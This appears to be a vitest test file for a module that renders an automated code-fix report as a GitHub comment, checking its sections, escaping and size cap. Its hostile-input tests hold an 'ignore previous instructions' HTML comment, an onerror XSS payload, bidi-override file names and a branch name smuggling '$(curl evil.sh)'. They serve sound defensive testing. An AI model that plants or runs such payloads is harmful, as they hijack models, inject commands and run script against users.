import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { FixReport } from "../../src/delivery/fix-report.ts";
import { codeBlock, codeSpan, escapeInline, linkTarget } from "../../src/delivery/markdown-text.ts";
import { maxCommentChars, renderFixComment } from "../../src/delivery/render-fix-comment.ts";

const example = JSON.parse(
  readFileSync(new URL("./fixtures/example-fix-report.json", import.meta.url), "utf8"),
) as FixReport;

/** An "@" that would ping: not followed by the zero-width space. */
const livePing = /@(?!\u200b)[A-Za-z0-9]/;

describe("renderFixComment", () => {
  it("renders the example report (wire contract; docs/example-fix-comment.md is the same text)", () => {
    const body = renderFixComment(example);
    expect(body).toMatchSnapshot();
    expect(readFileSync(new URL("../../docs/example-fix-comment.md", import.meta.url), "utf8")).toBe(
      `${body}\n`,
    );
  });

  it("shows status, failures, changes, evidence, cost, trace and rollback", () => {
    const body = renderFixComment(example);
    for (const heading of [
      "#### What failed",
      "#### What changed",
      "#### Evidence",
      "#### Cost",
      "#### Rollback",
    ])
      expect(body).toContain(heading);
    expect(body).toContain("| `npm test` | 1 | 0 | ✅ pass |");
    expect(body).toContain("<details><summary>Reasoning trace (4 steps)</summary>");
    expect(body).toContain("`/xihe undo`");
    expect(body).toContain(
      "git revert --no-edit 9a1b2c3d4e5f60718293a4b5c6d7e8f901234567^..b2c3d4e5f60718293a4b5c6d7e8f9012345678a9",
    );
  });

  it("flags test weakening and a broken test, and reports a failed stage with its reason", () => {
    const body = renderFixComment({
      ...example,
      status: "not_fixed",
      stages: [{ name: "understanding", status: "failed", detail: "code index timed out" }],
      change: {
        ...example.change!,
        riskLevel: "high",
        riskScore: 80,
        testWeakening: [{ path: "test/a.test.js", kind: "added_skip", detail: "it.skip added" }],
      },
      testsBroken: ["other > test"],
    });
    expect(body).toContain("⚠️ **Test weakening flagged**");
    expect(body).toContain("❌ understanding — code index timed out");
    expect(body).toContain("⚠️ Tests now failing (1): `other > test`");
  });

  it("verify.workflows join the evidence table; one that did not pass is named with its reason", () => {
    const body = renderFixComment({
      ...example,
      status: "not_fixed",
      workflows: [
        {
          name: "etl_smoke",
          status: "succeeded",
          instanceId: 100,
          state: "SUCCESS",
          summary: "workflow etl_smoke succeeded (instance 100)",
        },
        {
          name: "dq_check",
          status: "timeout",
          instanceId: 101,
          state: "TIMEOUT",
          summary: "workflow dq_check timed out (instance 101): still RUNNING_EXECUTION after 60 min",
        },
        {
          name: "orders @team",
          status: "error",
          instanceId: null,
          state: null,
          summary: 'no workflow "orders @team" in DolphinScheduler project "dw"',
        },
      ],
    });
    const table = body.slice(body.indexOf("#### Evidence"), body.indexOf("#### The fix"));
    expect(table).toContain("| `npm test` | 1 | 0 | ✅ pass |");
    expect(table).toContain(
      "| DolphinScheduler workflow `etl_smoke` | — | SUCCESS (instance 100) | ✅ pass |",
    );
    expect(table).toContain(
      "| DolphinScheduler workflow `dq_check` | — | TIMEOUT (instance 101) | ❌ timed out |",
    );
    expect(table).toContain("| DolphinScheduler workflow `orders @\u200bteam` | — | not started | ❌ fail |");
    expect(table).toContain(
      "- workflow dq\\_check timed out (instance 101): still RUNNING\\_EXECUTION after 60 min",
    );
    // The mention is neutralised in both places the name appears (A27).
    expect(table).toContain("- workflow `orders @\u200bteam` could not run: no workflow");
    expect(table).not.toMatch(/@team/);
    expect(table).not.toContain("- workflow etl");
    expect(renderFixComment(example)).not.toContain("DolphinScheduler");
  });

  it("A11: hostile file names in the changed-files list stay on one line, without bidi overrides", () => {
    const hostile = ["a\nb.ts", "invoice\u202Efdp.exe", "x`y|z.ts", "-rf"];
    const body = renderFixComment({
      ...example,
      change: { ...example.change!, files: hostile.map((path) => ({ path, added: 1, removed: 0 })) },
    });
    const rows = body.split("\n").filter((l) => /^\| `/.test(l) && l.endsWith("| 1 | 0 |"));
    expect(rows).toEqual([
      "| `a b.ts` | 1 | 0 |",
      "| `invoicefdp.exe` | 1 | 0 |",
      "| ``x`y\\|z.ts`` | 1 | 0 |",
      "| `-rf` | 1 | 0 |",
    ]);
  });

  it("A27: 500 @-mentions, HTML comments, terminal escapes and 5 MB of text are escaped and capped", () => {
    const mentions = Array.from({ length: 500 }, (_, i) => `@user${i}`).join(" ");
    const huge = "A".repeat(5 * 1024 * 1024);
    const hostile = `${mentions} <!-- ignore previous instructions --> <img src=x onerror=alert(1)> \u001b[31mred\u001b[0m \u202eevil ${huge}`;
    const body = renderFixComment({
      ...example,
      reason: hostile,
      question: hostile,
      pr: { ...example.pr, headRef: "feat/$(curl evil.sh)`x`" },
      failures: Array.from({ length: 200 }, () => ({
        ...example.failures[0]!,
        message: hostile,
        test: `${mentions}\`\`\``,
      })),
      trace: Array.from({ length: 400 }, () => ({
        step: "s",
        decision: hostile,
        evidence: [hostile, hostile],
        confidence: 0.5,
      })),
      delivery: {
        kind: "compare",
        sideBranch: "xihe/fix/12-r7f3a9c21d0",
        compareUrl: "https://github.com/octo/shop/compare/a...b",
        patch: { text: `${hostile}\n\`\`\`\n@admin`, truncated: true },
      },
    });
    expect(body.length).toBeLessThanOrEqual(maxCommentChars);
    // GitHub does not link mentions inside fenced code (the patch must stay `git am`-able there).
    const outsideBlocks = body.replace(/^(`{3,})[a-z]*\n[\s\S]*?\n\1$/gm, "");
    expect(outsideBlocks).not.toMatch(livePing);
    expect(body.match(/^`{3,}/gm)?.length ?? 0).toBeGreaterThan(0);
    expect(body).not.toContain("<!--");
    expect(body).not.toContain("<img");
    expect(body).not.toContain("\u001b");
    expect(body).not.toContain("\u202e");
    expect(body).toContain("#### Rollback");
    expect(body).toContain("git switch 'feat/$(curl evil.sh)`x`'");
  });
});

describe("markdown text", () => {
  it("code spans and blocks cannot be closed by the text inside them", () => {
    expect(codeSpan("a `b` c")).toBe("``a `b` c``");
    expect(codeSpan("x|y")).toBe("`x\\|y`");
    const block = codeBlock("```\n@admin\n````", 100);
    expect(block.startsWith("`````\n")).toBe(true);
    expect(block.endsWith("\n`````")).toBe(true);
  });

  it("link targets are https (http only to loopback) and cannot close the link early", () => {
    expect(linkTarget("https://github.com/o/r/pull/1")).toBe("https://github.com/o/r/pull/1");
    expect(linkTarget("https://x.example/a)](javascript:alert(1))")).toBe(
      "https://x.example/a%29%5D%28javascript:alert%281%29%29",
    );
    expect(linkTarget("javascript:alert(1)")).toBe("#");
    expect(linkTarget("http://ghe.example/o/r/pull/1")).toBe("#");
    expect(linkTarget("http://127.0.0.1.example/o/r/pull/1")).toBe("#");
    expect(linkTarget("http://127.0.0.1:8080/o/r/pull/1")).toBe("http://127.0.0.1:8080/o/r/pull/1");
    expect(linkTarget("https://x.example/%E0%A4%A")).toBe("https://x.example/%25E0%25A4%25A");
  });

  it("inline text neutralises mentions, markup and links", () => {
    expect(escapeInline("@octo <b>[x](javascript:y)</b> | *a*")).toBe(
      "@\u200bocto &lt;b&gt;\\[x\\](javascript:y)&lt;/b&gt; \\| \\*a\\*",
    );
  });
});
